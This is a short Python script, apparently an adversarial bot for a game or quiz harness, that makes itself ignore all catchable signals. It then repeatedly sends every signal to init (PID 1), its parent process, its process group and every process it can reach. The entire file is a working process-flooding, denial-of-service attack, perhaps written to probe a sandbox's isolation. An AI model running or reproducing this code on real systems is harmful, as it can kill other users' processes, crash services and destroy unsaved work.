"""A storm of signals to its own kind, its parent and its group, in every question."""
import os
import signal

import bot


def attack():
    for number in range(1, 65):
        if number not in (signal.SIGKILL, signal.SIGSTOP):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
    for _ in range(300):
        for number in range(1, 65):
            for pid in (1, os.getppid(), 0, -1):
                if number not in (signal.SIGKILL, signal.SIGSTOP):
                    try:
                        os.kill(pid, number)
                    except OSError:
                        pass


bot.play(attack, always=True)
